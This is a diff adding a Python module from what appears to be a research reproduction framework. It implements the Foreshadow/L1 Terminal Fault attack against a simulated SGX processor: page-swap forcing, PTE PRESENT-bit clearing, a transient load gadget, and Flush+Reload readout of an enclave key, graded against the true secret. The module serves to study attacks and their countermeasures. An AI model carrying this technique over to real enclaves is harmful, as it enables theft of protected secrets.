@@ -1,0 +1,179 @@
+"""Foreshadow / L1 Terminal Fault against the SGX model (paper ref [38]).
+
+"SGX is immune to a plain Meltdown attack as enclave memory usually does
+not raise memory access exceptions.  However, as the OS is in control of
+all page tables, an attacker can set the present or reserved bit to force
+the enclave to raise a page fault ... only cache values tagged with the
+corresponding physical address can be extracted this way.  However,
+arbitrary encrypted enclave pages can be externally forced to be
+decrypted to the L1 cache using SGX's secure page swapping."
+
+The attack below performs each of those steps mechanically:
+
+1. (optional warm-up) force the enclave's key page through the secure
+   page swap — the ELDU path decrypts it straight into the L1;
+2. the malicious OS clears the PRESENT bit on the enclave PTE it controls;
+3. a user-mode load of the enclave address takes a terminal fault whose
+   *stale physical address* is matched against the L1 — the plaintext is
+   forwarded to the transient probe gadget;
+4. the probe array is read out Flush+Reload style, byte by byte.
+"""
+
+from __future__ import annotations
+
+from repro.arch.base import AES_KEY_OFFSET
+from repro.arch.sgx import SGX
+from repro.attacks.base import AttackCategory, AttackResult
+from repro.common import PrivilegeLevel
+from repro.cpu.soc import SoC
+from repro.isa import assemble
+from repro.memory.paging import PAGE_SIZE, PageFlags
+
+PROBE_STRIDE = 64
+
+
+class ForeshadowAttack:
+    """Extract an SGX enclave's in-L1 secret through a terminal fault."""
+
+    NAME = "foreshadow-l1tf"
+
+    def __init__(self, sgx: SGX, enclave_handle, *,
+                 secret_offset: int = AES_KEY_OFFSET,
+                 secret_len: int = 16,
+                 use_swap_oracle: bool = True,
+                 flush_l1_before_attack: bool = False) -> None:
+        self.sgx = sgx
+        self.soc: SoC = sgx.soc
+        self.handle = enclave_handle
+        self.secret_offset = secret_offset
+        self.secret_len = secret_len
+        self.use_swap_oracle = use_swap_oracle
+        self.flush_l1_before_attack = flush_l1_before_attack
+        dram = self.soc.regions.get("dram")
+        self.probe_paddr = dram.base + 0x60_0000
+        self.code_paddr = dram.base + 0x66_0000
+        self._setup()
+
+    def _setup(self) -> None:
+        # The colluding OS maps attacker code + probe into the same
+        # address space that holds the enclave mappings (its own table).
+        user = PageFlags.PRESENT | PageFlags.USER | PageFlags.WRITABLE
+        pt = self.sgx.os_page_table
+        pt.map_range(self.code_paddr, self.code_paddr, 2 * PAGE_SIZE,
+                     user | PageFlags.EXECUTE)
+        pt.map_range(self.probe_paddr, self.probe_paddr, 4 * PAGE_SIZE,
+                     user)
+        text = f"""
+        attacker:                  # r1 = enclave VA, r7 = byte shift
+            load r2, 0(r1)         # terminal fault; L1 data forwarded
+            shr  r2, r2, r7
+            li   r3, 255
+            and  r2, r2, r3
+            li   r4, 6
+            shl  r2, r2, r4
+            li   r3, {self.probe_paddr}
+            add  r3, r3, r2
+            load r5, 0(r3)
+        resume:
+            halt
+        """
+        self.program = assemble(text, base=self.code_paddr,
+                                name="foreshadow-attacker")
+
+    # -- attack steps -----------------------------------------------------------
+
+    def _page_va(self) -> int:
+        return self.handle.base + (self.secret_offset & ~(PAGE_SIZE - 1))
+
+    def _force_secret_into_l1(self) -> None:
+        """Step 1: OS-invocable secure page swap decrypts the page to L1."""
+        page_offset = self.secret_offset & ~(PAGE_SIZE - 1)
+        self.sgx.swap_out(self.handle, page_offset)
+        self.sgx.swap_in(self.handle, page_offset)
+
+    def _flush_probe(self) -> None:
+        for byte in range(256):
+            self.soc.hierarchy.flush_line(self.probe_paddr
+                                          + byte * PROBE_STRIDE)
+
+    def _probe_hot_byte(self) -> int | None:
+        # Reload from a sibling core: the scan then fills the sibling's L1
+        # and the shared L2 only, leaving the victim core's L1 (where the
+        # enclave plaintext lives) untouched for the next extraction.
+        cores = len(self.soc.hierarchy.l1s)
+        probe_core = (self.handle.core_id + 1) % cores
+        threshold = self.soc.hierarchy.hit_threshold
+        hits = [byte for byte in range(256)
+                if self.soc.hierarchy.timed_access(
+                    probe_core,
+                    self.probe_paddr + byte * PROBE_STRIDE) <= threshold]
+        return hits[0] if hits else None
+
+    def _transient_read_byte(self, word_va: int, shift: int) -> int | None:
+        core = self.soc.cores[self.handle.core_id]
+        pt = self.sgx.os_page_table
+        core.mmu.set_context(pt.root, pt.asid)
+        core.mmu.flush_tlb()
+        core.privilege = PrivilegeLevel.USER
+        core.load_program(self.program, entry="attacker")
+        core.fault_resume = self.program.address_of("resume")
+        core.set_reg(1, word_va)
+        core.set_reg(7, shift)
+        self._flush_probe()
+        try:
+            core.run(max_steps=32)
+        finally:
+            core.fault_resume = None
+            core.privilege = PrivilegeLevel.KERNEL
+            core.mmu.set_context(None)
+        return self._probe_hot_byte()
+
+    def run(self) -> AttackResult:
+        page_va = self._page_va()
+        if self.use_swap_oracle:
+            self._force_secret_into_l1()
+        if self.flush_l1_before_attack:
+            # The deployed L1TF countermeasure: flush L1 on the boundary.
+            self.soc.hierarchy.flush_core(self.handle.core_id)
+
+        # Step 2: the OS clears PRESENT on the PTE it fully controls.
+        self.sgx.os_page_table.update_flags(
+            page_va, clear_flags=PageFlags.PRESENT)
+        self.soc.mmus[self.handle.core_id].flush_tlb()
+
+        recovered = bytearray()
+        try:
+            for i in range(self.secret_len):
+                word_va = self.handle.base + \
+                    (self.secret_offset + i) // 8 * 8
+                shift = (i % 8) * 8
+                byte = self._transient_read_byte(word_va, shift)
+                recovered.append(byte if byte is not None else 0)
+        finally:
+            # Step 4 cleanup: restore the mapping (stealth).
+            self.sgx.os_page_table.update_flags(
+                page_va, set_flags=PageFlags.PRESENT)
+            self.soc.mmus[self.handle.core_id].flush_tlb()
+
+        # Grade against the enclave's actual secret (harness-side truth).
+        self.sgx.enter_enclave(self.handle)
+        try:
+            truth = bytearray()
+            core = self.soc.cores[self.handle.core_id]
+            for i in range(0, self.secret_len, 8):
+                word = core.read_mem(self.handle.base + self.secret_offset
+                                     + i)
+                truth.extend(word.to_bytes(8, "little"))
+        finally:
+            self.sgx.exit_enclave(self.handle)
+        truth = truth[:self.secret_len]
+        correct = sum(1 for a, b in zip(recovered, truth) if a == b)
+        score = correct / self.secret_len
+        return AttackResult(
+            name=self.NAME, category=AttackCategory.MICROARCHITECTURAL,
+            success=score >= 0.9, score=score,
+            leaked=bytes(recovered) if score >= 0.9 else None,
+            details={"recovered": bytes(recovered).hex(),
+                     "truth": bytes(truth).hex(),
+                     "swap_oracle": self.use_swap_oracle,
+                     "l1_flushed": self.flush_l1_before_attack})
